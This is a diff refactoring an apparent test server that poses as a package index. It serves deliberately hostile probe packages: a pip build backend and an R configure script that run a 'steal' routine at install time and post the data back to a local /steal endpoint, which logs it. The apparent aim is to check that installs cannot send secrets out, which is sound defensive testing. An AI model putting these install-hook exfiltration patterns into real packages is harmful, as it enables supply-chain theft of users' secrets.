@@ -13,12 +13,11 @@ it found back here (POST /steal), the way a hostile package would send a secret 
 installer's own network. Every post is appended to stolen.log in the directory given, and every
 request's path to requests.log. Prints its port once it listens, then serves until killed."""
 
-import http.server
-import io
 import os
 import sys
-import tarfile
 import textwrap
+
+from local_http import QuietHandler, serve, tarball
 
 root = sys.argv[1]
 
@@ -54,18 +53,6 @@ STEAL = textwrap.dedent("""\
     """)
 
 
-def tar_of(files, modes=None):
-    data = io.BytesIO()
-    with tarfile.open(fileobj=data, mode="w:gz") as tar:
-        for name, text in files.items():
-            body = text.encode()
-            info = tarfile.TarInfo(name)
-            info.size = len(body)
-            info.mode = (modes or {}).get(name, 0o644)
-            tar.addfile(info, io.BytesIO(body))
-    return data.getvalue()
-
-
 # The build backend steals when pip asks it for anything, then builds a trivial wheel.
 BACKEND = STEAL + textwrap.dedent("""\
     import hashlib, zipfile
@@ -99,7 +86,7 @@ BACKEND = STEAL + textwrap.dedent("""\
     """)
 
 SDIST_NAME = "steal-probe-1.0.tar.gz"
-SDIST = tar_of({
+SDIST = tarball({
     "steal-probe-1.0/pyproject.toml":
         '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
     "steal-probe-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: steal-probe\nVersion: 1.0\n",
@@ -111,7 +98,7 @@ SDIST = tar_of({
 CONFIGURE = "#!/bin/sh\npython3 - <<'EOF'\n" + STEAL + \
     "import os\nsteal(os.environ['CRAN_MIRROR'])\nEOF\nexit 0\n"
 R_TARBALL_NAME = "stealr_1.0.tar.gz"
-R_TARBALL = tar_of({
+R_TARBALL = tarball({
     "stealr/DESCRIPTION": "Package: stealr\nVersion: 1.0\nTitle: Steals\nDescription: Steals.\n"
                           "Authors@R: person('A', 'B', email = 'a@b.c', role = c('aut', 'cre'))\n"
                           "License: MIT\nNeedsCompilation: no\n",
@@ -122,14 +109,7 @@ R_TARBALL = tar_of({
 R_PACKAGES = b"Package: stealr\nVersion: 1.0\nNeedsCompilation: no\n\n"
 
 
-class Index(http.server.BaseHTTPRequestHandler):
-    def send(self, body, kind):
-        self.send_response(200)
-        self.send_header("Content-Type", kind)
-        self.send_header("Content-Length", str(len(body)))
-        self.end_headers()
-        self.wfile.write(body)
-
+class Index(QuietHandler):
     def log(self, name, line):
         with open(os.path.join(root, name), "a") as log:
             log.write(line + "\n")
@@ -156,10 +136,5 @@ class Index(http.server.BaseHTTPRequestHandler):
         self.log("stolen.log", body)
         self.send(b"thanks", "text/plain")
 
-    def log_message(self, *args):
-        pass
 
-
-server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
-print(server.server_port, flush=True)
-server.serve_forever()
+serve(Index)
